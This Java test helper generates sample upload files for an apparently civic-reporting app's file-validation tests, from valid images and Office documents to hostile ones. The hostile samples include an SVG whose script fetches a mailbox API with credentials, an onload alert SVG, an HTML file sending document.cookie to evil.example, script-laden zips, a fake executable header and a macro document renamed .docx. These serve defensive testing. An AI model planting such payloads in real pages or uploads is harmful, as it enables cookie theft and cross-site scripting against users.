package org.citizenhub.testing;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

/** Small real files, made in the test: what a citizen's phone or scanner sends, and what an attacker tries. */
public final class SampleFiles {

    private SampleFiles() {
    }

    /** A real 2×2 PNG, as ImageIO writes it. */
    public static byte[] png() {
        return image("png");
    }

    /** A real 2×2 JPEG, as ImageIO writes it. */
    public static byte[] jpeg() {
        return image("jpg");
    }

    /** The header of a lossy WebP (RIFF container, VP8 chunk). */
    public static byte[] webp() {
        byte[] webp = new byte[64];
        put(webp, 0, "RIFF");
        webp[4] = 56;
        put(webp, 8, "WEBPVP8 ");
        return webp;
    }

    /** A minimal one-page PDF. */
    public static byte[] pdf() {
        return ascii("""
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
                trailer << /Root 1 0 R >>
                %%EOF
                """);
    }

    /** The start of a Windows executable: DOS stub "MZ" and a PE header. */
    public static byte[] exe() {
        byte[] exe = new byte[256];
        put(exe, 0, "MZ");
        exe[0x3C] = (byte) 0x80;
        put(exe, 0x4E, "This program cannot be run in DOS mode.");
        put(exe, 0x80, "PE\0\0");
        return exe;
    }

    public static byte[] svg() {
        return ascii("""
                <?xml version="1.0" encoding="UTF-8"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
                  <script>fetch('/api/mailbox/letters', {credentials: 'include'})</script>
                  <rect width="10" height="10"/>
                </svg>
                """);
    }

    public static byte[] svgWithoutDeclaration() {
        return ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><rect/></svg>");
    }

    public static byte[] html() {
        return ascii("""
                <!DOCTYPE html>
                <html><head><title>pothole</title></head>
                <body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>
                """);
    }

    public static byte[] gif() {
        byte[] gif = Arrays.copyOf(ascii("GIF89a"), 32);
        gif[6] = 1;
        gif[8] = 1;
        return gif;
    }

    /** Any zip: what a renamed archive looks like. */
    public static byte[] plainZip() {
        var entries = new LinkedHashMap<String, String>();
        entries.put("readme.txt", "hello");
        entries.put("payload.html", "<script>alert(1)</script>");
        return zip(entries);
    }

    /** A zip that starts like an OOXML package but has no document in it. */
    public static byte[] contentTypesOnlyZip() {
        var entries = new LinkedHashMap<String, String>();
        entries.put("[Content_Types].xml", CONTENT_TYPES);
        entries.put("index.html", "<script>alert(1)</script>");
        return zip(entries);
    }

    /** A minimal Word document: the parts Word needs to open it. */
    public static byte[] docx() {
        var entries = new LinkedHashMap<String, String>();
        entries.put("[Content_Types].xml", CONTENT_TYPES);
        entries.put("_rels/.rels", RELS.formatted("word/document.xml"));
        entries.put("word/document.xml", """
                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
                <w:body><w:p><w:r><w:t>路灯不亮</w:t></w:r></w:p></w:body></w:document>""");
        return zip(entries);
    }

    /** A Word document with macros (what .docm files are), renamed .docx. */
    public static byte[] docxWithMacros() {
        var entries = new LinkedHashMap<String, String>();
        entries.put("[Content_Types].xml", CONTENT_TYPES);
        entries.put("_rels/.rels", RELS.formatted("word/document.xml"));
        entries.put("word/document.xml", "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>");
        entries.put("word/vbaProject.bin", "Attribute VB_Name = \"AutoOpen\"");
        return zip(entries);
    }

    /** A minimal Excel workbook. */
    public static byte[] xlsx() {
        var entries = new LinkedHashMap<String, String>();
        entries.put("[Content_Types].xml", CONTENT_TYPES);
        entries.put("_rels/.rels", RELS.formatted("xl/workbook.xml"));
        entries.put("xl/workbook.xml", """
                <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>""");
        return zip(entries);
    }

    /** A PNG header followed by zeros, {@code size} bytes in all. */
    public static byte[] pngOfSize(int size) {
        byte[] png = png();
        return Arrays.copyOf(png, size);
    }

    private static final String CONTENT_TYPES = """
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
            <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
            <Default Extension="xml" ContentType="application/xml"/>
            </Types>""";

    private static final String RELS = """
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
            <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="%s"/>
            </Relationships>""";

    public static byte[] zip(Map<String, String> entries) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (var entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] image(String format) {
        var image = new BufferedImage(2, 2, BufferedImage.TYPE_INT_RGB);
        image.setRGB(0, 0, Color.ORANGE.getRGB());
        var bytes = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(image, format, bytes)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static void put(byte[] target, int offset, String ascii) {
        byte[] bytes = ascii.getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(bytes, 0, target, offset, bytes.length);
    }
}
